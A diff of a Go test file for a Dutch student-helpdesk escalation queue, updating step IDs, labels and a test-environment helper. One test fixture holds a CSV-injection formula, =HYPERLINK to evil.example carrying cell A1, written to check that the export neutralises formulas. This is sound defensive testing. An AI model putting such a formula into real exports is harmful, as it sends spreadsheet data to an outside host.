@@ -15,7 +15,7 @@ import (
 )
 
 func TestCSRFEnforced(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
 	c := e.devSignIn(t, "Ine")
 	base := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10)
@@ -77,8 +77,8 @@ func TestCSRFEnforced(t *testing.T) {
 }
 
 func TestQueueDetailAndActions(t *testing.T) {
-	e := newDevEnv(t, []string{"step1", "step2"}, map[string]string{"step2": "Stap 2: aanmelden"})
-	older := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step2",
+	e := newDevEnv(t, []string{"step01", "step02"})
+	older := addEscalation(t, e.st, store.Escalation{StudentName: "Bram Jansen", Situation: "move_phone", FailedStep: "step02",
 		Reason: handoff.ReasonTwoFailures, CreatedAt: time.Now().Add(-2 * time.Hour), RepeatContact: true})
 	sec := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries", StudentUPN: "sanne@student.example",
 		StudentObjectID: "oid-sanne", Situation: "suspicious_prompt", Reason: handoff.ReasonSuspicious, Security: true,
@@ -95,7 +95,7 @@ func TestQueueDetailAndActions(t *testing.T) {
 	if strings.Contains(body, "Opgeloste Olaf") {
 		t.Error("the default queue lists a resolved escalation")
 	}
-	for _, want := range []string{`<span class="badge security">Beveiliging</span>`, "Herhaald contact", "Stap 2: aanmelden",
+	for _, want := range []string{`<span class="badge security">Beveiliging</span>`, "Herhaald contact", "Stap 2: Log in",
 		"Stap twee keer mislukt", "2 u 00 min", `data-poll="/staff/queue/fragment?status=active"`} {
 		if !strings.Contains(body, want) {
 			t.Errorf("queue lacks %q", want)
@@ -175,7 +175,7 @@ func TestQueueDetailAndActions(t *testing.T) {
 }
 
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{
 		StudentName:     `=HYPERLINK("http://evil.example/?"&A1,"klik")`,
 		StudentUPN:      "+31612345678@student.example",
@@ -273,7 +273,7 @@ func TestSafeNext(t *testing.T) {
 }
 
 func TestDetailVersionEndpoint(t *testing.T) {
-	e := newDevEnv(t, nil, nil)
+	e := newDevEnv(t, nil)
 	id := addEscalation(t, e.st, store.Escalation{StudentName: "Sanne de Vries"})
 	c := e.devSignIn(t, "Ine")
 	u := e.srv.URL + "/staff/escalations/" + strconv.FormatInt(id, 10) + "/version"
@@ -302,9 +302,9 @@ func TestNeutralise(t *testing.T) {
 }
 
 func TestStatisticsPage(t *testing.T) {
-	steps := []string{"situation", "step1", "step2", "step10"}
-	labels := map[string]string{"step1": "Stap 1: aka.ms/mfasetup", "step2": "Stap 2: aanmelden", "step10": "Stap 10: code invoeren"}
-	e := newDevEnv(t, steps, labels)
+	// "situation" is a step the flow does not know (it stays visible as it is).
+	steps := []string{"situation", "step01", "step02", "step10"}
+	e := newDevEnv(t, steps)
 	ctx := context.Background()
 	now := time.Now().UTC()
 	record := func(session, step, event string) {
@@ -319,8 +319,8 @@ func TestStatisticsPage(t *testing.T) {
 		}
 		// step10 is recorded first to check that the page orders by flow.
 		record(sid, "step10", "shown")
-		record(sid, "step1", "shown")
-		record(sid, "step2", "shown")
+		record(sid, "step01", "shown")
+		record(sid, "step02", "shown")
 		if err := e.st.EndSession(ctx, sid, outcome, now.Add(-30*time.Minute)); err != nil {
 			t.Fatal(err)
 		}
@@ -328,7 +328,7 @@ func TestStatisticsPage(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	record("s2", "step2", "failed")
+	record("s2", "step02", "failed")
 	record("s9", "old_step", "shown")
 
 	c := e.devSignIn(t, "Ine")
@@ -338,12 +338,12 @@ func TestStatisticsPage(t *testing.T) {
 	}
 	// The table is in flow order (the drop-off chart above it is not).
 	table := body[strings.Index(body, `<table class="funnel">`):]
-	i1, i2, i10, iOld := strings.Index(table, "Stap 1: aka.ms"), strings.Index(table, "Stap 2: aanmelden"), strings.Index(table, "Stap 10: code"), strings.Index(table, "old_step")
+	i1, i2, i10, iOld := strings.Index(table, "Stap 1: Open de website"), strings.Index(table, "Stap 2: Log in"), strings.Index(table, "Stap 10: Rond het toevoegen af"), strings.Index(table, "old_step")
 	if i1 < 0 || i2 < 0 || i10 < 0 || iOld < 0 || !(i1 < i2 && i2 < i10 && i10 < iOld) {
 		t.Errorf("funnel not in flow order: %d %d %d %d", i1, i2, i10, iOld)
 	}
 	for _, want := range []string{
-		`<th scope="row">Stap 2: aanmelden</th><td class="num">3</td><td class="num">1</td><td class="num">33%</td>`,
+		`<th scope="row">Stap 2: Log in</th><td class="num">3</td><td class="num">1</td><td class="num">33%</td>`,
 		`<th scope="row">situation</th><td class="num">0</td>`,
 		`width="100"`, "Opgelost (gecontroleerd)", "Afgebroken", now.Add(-30 * time.Minute).Format("2006-01-02"),
 		`<th scope="row">5 van 5</th><td class="num">1</td>`, "4.0 / 5",
